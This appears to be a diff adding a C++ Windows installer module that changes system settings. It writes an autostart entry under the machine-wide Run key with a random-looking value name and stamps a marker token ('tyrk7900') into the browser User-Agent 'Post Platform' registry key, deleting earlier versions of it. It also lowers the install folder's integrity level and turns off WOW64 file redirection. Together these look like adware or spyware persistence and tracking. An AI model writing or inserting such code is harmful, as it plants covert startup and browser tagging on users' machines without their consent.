@@ -1,0 +1,123 @@
+#include "install/sysops.h"
+
+#include <windows.h>
+#include <aclapi.h>
+
+#include <cstring>
+
+#include "app/context.h"
+#include "app/strbuf.h"
+#include "install/locations.h"
+
+void SetLowIntegrity() {
+    char directory[sizeof g_ctx.installDir];
+    if (!StrCopy(directory, g_ctx.installDir)) return;
+    size_t len = std::strlen(directory);
+    if (len > 0 && directory[len - 1] == '\\') directory[len - 1] = '\0';
+    char command[300];
+    if (!StrFormat(command, sizeof command, "icacls.exe \"%s\" /SetIntegrityLevel Level: L", directory)) return;
+    WinExec(command, SW_SHOW);
+}
+
+int GrantUserFullControl(const char* directory) {
+    char user[198];
+    DWORD userSize = sizeof user;
+    if (!GetUserNameA(user, &userSize)) return 0;
+
+    PACL oldAcl = nullptr;
+    PSECURITY_DESCRIPTOR descriptor = nullptr;
+    if (GetNamedSecurityInfoA(directory, SE_FILE_OBJECT, DACL_SECURITY_INFORMATION, nullptr, nullptr, &oldAcl,
+                              nullptr, &descriptor) != ERROR_SUCCESS)
+        return 0;
+
+    EXPLICIT_ACCESSA access;
+    std::memset(&access, 0, sizeof access);
+    BuildExplicitAccessWithNameA(&access, user, GENERIC_ALL, GRANT_ACCESS, SUB_CONTAINERS_AND_OBJECTS_INHERIT);
+    PACL newAcl = nullptr;
+    int result = 0;
+    if (SetEntriesInAclA(1, &access, oldAcl, &newAcl) == ERROR_SUCCESS) {
+        result = SetNamedSecurityInfoA(const_cast<char*>(directory), SE_FILE_OBJECT, DACL_SECURITY_INFORMATION, nullptr,
+                                       nullptr, newAcl, nullptr) == ERROR_SUCCESS
+                     ? 1
+                     : 0;
+        LocalFree(newAcl);
+    }
+    if (descriptor != nullptr) LocalFree(descriptor);
+    return result;
+}
+
+namespace {
+// Sets a REG_SZ value with the text's length as byte count (no NUL counted).
+void SetTextValue(HKEY key, const char* name, const char* text) {
+    RegSetValueExA(key, name, 0, REG_SZ, reinterpret_cast<const BYTE*>(text), static_cast<DWORD>(std::strlen(text)));
+}
+
+// Opens parent for reading and creates or opens its sub-key with full access.
+HKEY OpenWritableSubKey(const char* parent, const char* sub, HKEY* parentKey) {
+    if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, parent, 0, KEY_READ, parentKey) != ERROR_SUCCESS) return nullptr;
+    HKEY key = nullptr;
+    if (RegCreateKeyExA(*parentKey, sub, 0, nullptr, REG_OPTION_NON_VOLATILE, KEY_ALL_ACCESS, nullptr, &key,
+                        nullptr) != ERROR_SUCCESS) {
+        RegCloseKey(*parentKey);
+        return nullptr;
+    }
+    return key;
+}
+}  // namespace
+
+void WriteAutostartValue(const char* command) {
+    HKEY parent = nullptr;
+    HKEY run = OpenWritableSubKey("Software\\Microsoft\\Windows\\CurrentVersion", "Run", &parent);
+    if (run == nullptr) return;
+    RegDeleteValueA(run, "mfmxsjgl");
+    SetTextValue(run, "mfmxsjgl", command);
+    RegCloseKey(run);
+    RegCloseKey(parent);
+}
+
+void WriteUserAgentToken() {
+    HKEY parent = nullptr;
+    HKEY post = OpenWritableSubKey("Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\User Agent",
+                                   "Post Platform", &parent);
+    if (post == nullptr) return;
+    // Tokens of earlier versions, "tyrk6300" to "tyrk6800" and "tyrk7000" to "tyrk7900".
+    char name[16];
+    for (char d = '3'; d <= '8'; ++d) {
+        StrFormat(name, sizeof name, "tyrk6%c00", d);
+        RegDeleteValueA(post, name);
+    }
+    for (char d = '0'; d <= '9'; ++d) {
+        StrFormat(name, sizeof name, "tyrk7%c00", d);
+        RegDeleteValueA(post, name);
+    }
+    SetTextValue(post, "tyrk7900", "");
+    RegCloseKey(post);
+    RegCloseKey(parent);
+}
+
+namespace {
+struct RedirectionToken {
+    PVOID oldValue;
+};
+RedirectionToken g_redirection;
+
+FARPROC Kernel32Function(const char* name) {
+    HMODULE kernel = GetModuleHandleA("kernel32.dll");
+    return kernel != nullptr ? GetProcAddress(kernel, name) : nullptr;
+}
+}  // namespace
+
+void* BeginNativeSystemDirAccess() {
+    if (!DetectWow64()) return nullptr;
+    typedef BOOL(WINAPI * DisableFn)(PVOID*);
+    auto disable = reinterpret_cast<DisableFn>(reinterpret_cast<void*>(Kernel32Function("Wow64DisableWow64FsRedirection")));
+    if (disable == nullptr || !disable(&g_redirection.oldValue)) return nullptr;
+    return &g_redirection;
+}
+
+void EndNativeSystemDirAccess(void* token) {
+    if (token == nullptr) return;
+    typedef BOOL(WINAPI * RevertFn)(PVOID);
+    auto revert = reinterpret_cast<RevertFn>(reinterpret_cast<void*>(Kernel32Function("Wow64RevertWow64FsRedirection")));
+    if (revert != nullptr) revert(static_cast<RedirectionToken*>(token)->oldValue);
+}
